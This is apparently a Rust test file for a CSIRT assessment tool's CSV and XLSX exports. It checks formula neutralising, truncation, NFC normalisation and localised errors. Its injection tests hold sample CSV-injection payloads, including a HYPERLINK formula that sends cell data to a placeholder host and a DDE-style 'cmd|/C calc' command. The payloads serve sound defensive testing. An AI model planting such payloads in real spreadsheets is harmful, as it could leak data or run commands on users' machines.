//! Tests of the CSV and XLSX exports: formula neutralising, text cells that stay text, cells cut
//! to fit with a warning, NFC, and the error messages in both languages.

use super::*;
use csirt_model::limits::SPREADSHEET_CELL_MAX_UTF16;
use csirt_model::Localized;
use std::io::Read;

struct Fixture {
    set: csirt_model::QuestionnaireSet,
    a: Assessment,
}

impl Fixture {
    fn demo() -> Fixture {
        let set = csirt_model::builtin().unwrap();
        let a = csirt_model::demo::demo_assessment(Lang::En);
        Fixture { set, a }
    }

    fn report(&self) -> ScoreReport {
        csirt_scoring::score(
            &self.set.questionnaire,
            self.set.benchmark.as_deref(),
            &self.a,
        )
        .unwrap()
    }

    fn csv(&self, lang: Lang) -> (Vec<Vec<String>>, Vec<Text>) {
        let e = answers_csv_with_warnings(&self.set.questionnaire, &self.a, &self.report(), lang)
            .unwrap();
        assert_eq!(&e.bytes[..3], b"\xEF\xBB\xBF");
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&e.bytes[3..]);
        let rows = r
            .records()
            .map(|rec| rec.unwrap().iter().map(str::to_string).collect())
            .collect();
        (rows, e.warnings)
    }

    fn xlsx(&self, lang: Lang) -> (Book, Vec<Text>) {
        let e = workbook_xlsx_with_warnings(&self.set.questionnaire, &self.a, &self.report(), lang)
            .unwrap();
        (Book::read(&e.bytes), e.warnings)
    }
}

/// A cell read back from the workbook's XML: a string (shared or inline) or a number.
#[derive(Debug, PartialEq)]
enum Got {
    Str(String),
    Num(String),
}

/// The parts of a written workbook the tests look at.
struct Book {
    sheets: Vec<String>,
    shared: Vec<String>,
}

fn unescape(s: &str) -> String {
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&amp;", "&")
}

impl Book {
    fn read(bytes: &[u8]) -> Book {
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        let mut part = |name: &str| {
            let mut s = String::new();
            if let Ok(mut f) = zip.by_name(name) {
                f.read_to_string(&mut s).unwrap();
            }
            s
        };
        let sheets = vec![
            part("xl/worksheets/sheet1.xml"),
            part("xl/worksheets/sheet2.xml"),
        ];
        let shared_xml = part("xl/sharedStrings.xml");
        let shared = shared_xml
            .split("<si>")
            .skip(1)
            .map(|si| {
                let t = si.split_once("<t").unwrap().1;
                let t = t.split_once('>').unwrap().1;
                unescape(t.split_once("</t>").unwrap().0)
            })
            .collect();
        Book { sheets, shared }
    }

    /// The cell at `reference` (e.g. "A2") of sheet `n` (0-based).
    fn cell(&self, n: usize, reference: &str) -> Option<Got> {
        let xml = &self.sheets[n];
        let start = xml.find(&format!("<c r=\"{reference}\""))?;
        let rest = &xml[start..];
        let end = rest
            .find("</c>")
            .unwrap_or_else(|| rest.find("/>").unwrap());
        let c = &rest[..end];
        let v = c
            .split_once("<v>")
            .map(|(_, v)| v.split_once("</v>").unwrap().0.to_string())?;
        if c.contains("t=\"s\"") {
            Some(Got::Str(self.shared[v.parse::<usize>().unwrap()].clone()))
        } else if c.contains("t=") {
            panic!("unexpected cell type in {c}")
        } else {
            Some(Got::Num(v))
        }
    }

    fn has_formula(&self) -> bool {
        self.sheets
            .iter()
            .any(|s| s.contains("<f>") || s.contains("<f "))
    }
}

/// The 1-based spreadsheet row of `item` in the answers sheet (row 1 holds the headings).
fn row_of(rows: &[Vec<String>], item: &str) -> usize {
    rows.iter().position(|r| r[0] == item).unwrap() + 1
}

#[test]
fn csv_neutralises_every_formula_start_in_user_text() {
    let mut f = Fixture::demo();
    let texts = [
        ("4.1", r#"=HYPERLINK("http://x.invalid/?"&A1,"open")"#),
        ("4.2", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("4.3", "+1"),
        ("4.4", "-2+3"),
        ("4.5", "\t=1"),
        ("4.6", "\r=1"),
        ("4.7", " =1+1"),
        ("4.8", "＝1+1"),
    ];
    for (item, text) in texts {
        f.a.comments.insert(item.into(), text.into());
        f.a.evidence.insert(item.into(), text.into());
    }
    f.a.answers
        .insert("2.9.w".into(), csirt_model::Answer::Text("=1+1".into()));
    let (rows, warnings) = f.csv(Lang::En);
    assert!(warnings.is_empty());
    let header = &rows[0];
    let comment = header.iter().position(|h| h == "Comment").unwrap();
    let evidence = header.iter().position(|h| h == "Evidence").unwrap();
    for (item, text) in texts {
        let row = &rows[row_of(&rows, item) - 1];
        assert_eq!(row[comment], format!("'{text}"), "{item}");
        assert_eq!(row[evidence], format!("'{text}"), "{item}");
    }
    let free = &rows[row_of(&rows, "2.9.w") - 1];
    assert_eq!(free[3], "'=1+1");
    // No cell of the whole file starts with a formula character, whoever wrote the text.
    for row in &rows {
        for cell in row {
            assert!(!looks_like_formula(cell), "{cell:?}");
        }
    }
}

#[test]
fn xlsx_never_writes_a_formula_and_keeps_user_text_as_typed() {
    let mut f = Fixture::demo();
    let formula = r#"=HYPERLINK("http://x.invalid/?"&A1,"open")"#;
    f.a.comments.insert("4.1".into(), formula.into());
    f.a.answers
        .insert("2.9.w".into(), csirt_model::Answer::Text("=1+1".into()));
    let (book, _) = f.xlsx(Lang::En);
    assert!(!book.has_formula());
    let (rows, _) = f.csv(Lang::En);
    let r = row_of(&rows, "4.1");
    assert_eq!(
        book.cell(0, &format!("O{r}")),
        Some(Got::Str(formula.into()))
    );
    let r = row_of(&rows, "2.9.w");
    assert_eq!(
        book.cell(0, &format!("D{r}")),
        Some(Got::Str("=1+1".into()))
    );
}

#[test]
fn ids_answers_and_notes_are_text_and_only_figures_are_numbers() {
    let mut f = Fixture::demo();
    f.a.comments.insert("4.1".into(), "NaN".into());
    f.a.comments.insert("4.10".into(), "007".into());
    f.a.evidence.insert("4.10".into(), "1e5".into());
    f.a.answers
        .insert("2.9.w".into(), csirt_model::Answer::Text("4.10".into()));
    let (book, _) = f.xlsx(Lang::En);
    let (rows, _) = f.csv(Lang::En);
    let r41 = row_of(&rows, "4.1");
    let r410 = row_of(&rows, "4.10");
    assert_eq!(
        book.cell(0, &format!("A{r41}")),
        Some(Got::Str("4.1".into()))
    );
    assert_eq!(
        book.cell(0, &format!("A{r410}")),
        Some(Got::Str("4.10".into()))
    );
    assert_eq!(
        book.cell(0, &format!("O{r41}")),
        Some(Got::Str("NaN".into()))
    );
    assert_eq!(
        book.cell(0, &format!("O{r410}")),
        Some(Got::Str("007".into()))
    );
    assert_eq!(
        book.cell(0, &format!("P{r410}")),
        Some(Got::Str("1e5".into()))
    );
    let rw = row_of(&rows, "2.9.w");
    assert_eq!(
        book.cell(0, &format!("D{rw}")),
        Some(Got::Str("4.10".into()))
    );
    // Every item id in the answers sheet is a string; level, top level, score and gap are
    // numbers wherever they are filled.
    for (i, row) in rows.iter().enumerate().skip(1) {
        let r = i + 1;
        assert_eq!(
            book.cell(0, &format!("A{r}")),
            Some(Got::Str(row[0].clone()))
        );
        for (col, csv_col) in [("G", 6), ("H", 7), ("I", 8), ("K", 10)] {
            match book.cell(0, &format!("{col}{r}")) {
                Some(Got::Num(v)) => {
                    let (x, y): (f64, f64) = (v.parse().unwrap(), row[csv_col].parse().unwrap());
                    assert!((x - y).abs() < 0.051, "{col}{r}: {v} vs {}", row[csv_col]);
                }
                None => assert_eq!(row[csv_col], "", "{col}{r}"),
                other => panic!("{col}{r}: {other:?}"),
            }
        }
    }
    // The gaps sheet: rank, gap and priority are numbers; the item id (2.10, not 2.1) is text.
    let report = f.report();
    assert!(
        report.gaps.iter().any(|g| g.item == "2.10"),
        "2.10 is a gap of the demo"
    );
    for (i, g) in report.gaps.iter().enumerate() {
        let r = i + 2;
        assert_eq!(
            book.cell(1, &format!("A{r}")),
            Some(Got::Num(g.rank.to_string()))
        );
        assert_eq!(
            book.cell(1, &format!("B{r}")),
            Some(Got::Str(g.item.clone()))
        );
        assert!(matches!(book.cell(1, &format!("F{r}")), Some(Got::Num(_))));
        assert!(matches!(book.cell(1, &format!("H{r}")), Some(Got::Num(_))));
    }
    // The CSV keeps the ids exactly as they are (RFC 4180 text; see docs/security.md).
    assert_eq!(rows[r410 - 1][0], "4.10");
    assert_eq!(rows[r410 - 1][14], "007");
}

#[test]
fn a_text_longer_than_a_cell_is_cut_with_a_marker_and_a_warning_in_every_export() {
    for lang in Lang::ALL {
        let mut f = Fixture::demo();
        f.a.comments.insert("4.10".into(), "x".repeat(32_768));
        f.a.evidence.insert("2.10".into(), "😀".repeat(20_000));
        let (rows, csv_warnings) = f.csv(lang);
        let (book, xlsx_warnings) = f.xlsx(lang);
        for warnings in [&csv_warnings, &xlsx_warnings] {
            assert_eq!(warnings.len(), 2, "{warnings:?}");
            assert!(warnings[0].get(lang).contains("2.10"), "{warnings:?}");
            assert!(warnings[1].get(lang).contains("4.10"), "{warnings:?}");
        }
        let r = row_of(&rows, "4.10");
        let csv_cell = &rows[r - 1][14];
        assert!(csv_cell.ends_with(cell::cut_marker(lang)));
        assert!(csv_cell.encode_utf16().count() <= SPREADSHEET_CELL_MAX_UTF16);
        let Some(Got::Str(x)) = book.cell(0, &format!("O{r}")) else {
            panic!("the comment cell is missing")
        };
        assert!(x.ends_with(cell::cut_marker(lang)) && x.starts_with("xxx"));
        assert!(x.encode_utf16().count() <= SPREADSHEET_CELL_MAX_UTF16);
        // The rest of the row is still there.
        assert_eq!(
            book.cell(0, &format!("A{r}")),
            Some(Got::Str("4.10".into()))
        );
    }
}

#[test]
fn decomposed_text_is_written_composed_in_csv_and_xlsx() {
    let mut f = Fixture::demo();
    let cases = [
        (
            "4.1",
            "Socie\u{301}te\u{301} A\u{30a}ngstro\u{308}m",
            "Société Ångström",
        ),
        ("4.2", "\u{304b}\u{3099}\u{304d}\u{3099}", "がぎ"),
        (
            "4.3",
            "\u{1112}\u{1161}\u{11ab}\u{1100}\u{1173}\u{11af}",
            "한글",
        ),
    ];
    for (item, nfd, _) in cases {
        f.a.comments.insert(item.into(), nfd.into());
    }
    let (rows, _) = f.csv(Lang::En);
    let (book, _) = f.xlsx(Lang::En);
    for (item, _, composed) in cases {
        let r = row_of(&rows, item);
        assert_eq!(rows[r - 1][14], composed);
        assert_eq!(
            book.cell(0, &format!("O{r}")),
            Some(Got::Str(composed.into()))
        );
    }
}

#[test]
fn export_errors_read_in_japanese_and_keep_their_detail() {
    let xlsx = ExportError::Xlsx(rust_xlsxwriter::XlsxError::SheetnameCannotBeBlank(
        "Sheet".into(),
    ));
    let csv_err = ExportError::Csv(csv::Error::from(std::io::Error::other("disk full")));
    let finish = ExportError::CsvFinish("disk full".into());
    for e in [&xlsx, &csv_err, &finish] {
        let (ja, en) = (e.localized(Lang::Ja), e.localized(Lang::En));
        assert_eq!(en, e.to_string());
        assert_ne!(ja, en);
        assert!(ja.contains("書き出せません"), "{ja}");
        assert!(
            !ja.contains("cannot write") && !ja.contains("cannot finish"),
            "{ja}"
        );
    }
    assert!(csv_err.localized(Lang::Ja).contains("disk full"));
    assert!(finish.localized(Lang::Ja).contains("disk full"));
}

#[test]
fn every_row_names_the_benchmark_compared_with() {
    let mut f = Fixture::demo();
    let (rows, _) = f.csv(Lang::En);
    let col = rows[0]
        .iter()
        .position(|h| h == "Benchmark compared with")
        .unwrap();
    for row in &rows[1..] {
        assert!(row[col].contains("(n = 66; surveyed 2015-12-08, published 2016-06-29)"));
        assert!(row[col].contains("JPCERT Coordination Center"));
    }
    // A segment of a pooled benchmark is named with its own n.
    let catalog = csirt_model::Catalog::load(None).unwrap().0;
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/fixtures/benchmarks/synthetic-pool.toml");
    let pool = csirt_model::load_benchmark_file(&path, &catalog).unwrap();
    f.set.benchmark = Some(std::sync::Arc::new(pool.segment("size=small").unwrap()));
    let (rows, _) = f.csv(Lang::Ja);
    let col = rows[0]
        .iter()
        .position(|h| h == "比較した基準データ")
        .unwrap();
    assert!(
        rows[1][col].contains("区分「小規模（1〜5 名）」（n = 17、"),
        "{}",
        rows[1][col]
    );
}

fn plan_views(set: &csirt_model::QuestionnaireSet) -> Vec<csirt_scoring::ActionView> {
    use csirt_model::action::{Action, ActionNote, ActionStatus};
    let q = &set.questionnaire;
    let item = q.scored_items().next().unwrap();
    let key = item.levelled_keys().last().unwrap().0.clone();
    let action = Action {
        id: "act-0123456789".into(),
        title: "=HYPERLINK(\"http://x\",\"click\")".into(),
        items: vec![item.id.clone()],
        targets: csirt_model::StrictMap(vec![(item.id.clone(), key)]),
        owner: "@owner".into(),
        due: "2026-09-30".into(),
        status: ActionStatus::InProgress,
        created: "2026-01-10".into(),
        notes: vec![ActionNote {
            date: "2026-02-01".into(),
            text: String::new(),
            status: Some(ActionStatus::InProgress),
        }],
    };
    let today = csirt_model::date::parse_date("2026-03-01").unwrap();
    vec![csirt_scoring::action_view(q, &action, None, &[], today)]
}

#[test]
fn the_plan_has_the_poam_columns_and_keeps_text_as_text() {
    let set = csirt_model::builtin().unwrap();
    let views = plan_views(&set);
    let q = &set.questionnaire;
    let e = plan_csv(q, &views, Lang::En).unwrap();
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&e.bytes[3..]);
    let rows: Vec<Vec<String>> = r
        .records()
        .map(|rec| rec.unwrap().iter().map(str::to_string).collect())
        .collect();
    assert_eq!(
        rows[0][..8],
        [
            "ID",
            "Item",
            "Weakness (question)",
            "Action",
            "Owner",
            "Due date",
            "Status",
            "Last status change"
        ]
    );
    let item = &views[0].items[0];
    assert_eq!(rows[1][0], "act-0123456789");
    assert_eq!(&rows[1][1], item);
    assert!(rows[1][2].starts_with(&format!("{item} ")), "{:?}", rows[1]);
    assert_eq!(rows[1][3], "'=HYPERLINK(\"http://x\",\"click\")");
    assert_eq!(rows[1][4], "'@owner");
    assert_eq!(rows[1][5], "2026-09-30");
    assert_eq!(rows[1][6], "in progress");
    assert_eq!(rows[1][7], "2026-02-01");
    assert_eq!(rows[1][8], "open");
    let ja = plan_csv(q, &views, Lang::Ja).unwrap();
    assert!(String::from_utf8(ja.bytes).unwrap().contains("担当者"));

    let book = Book::read(&plan_xlsx(q, &views, Lang::En).unwrap().bytes);
    assert!(!book.has_formula());
    assert_eq!(
        book.cell(0, "D2"),
        Some(Got::Str("=HYPERLINK(\"http://x\",\"click\")".into()))
    );
    assert_eq!(book.cell(0, "F2"), Some(Got::Str("2026-09-30".into())));
    assert_eq!(book.cell(0, "B2"), Some(Got::Str(item.clone())));
}
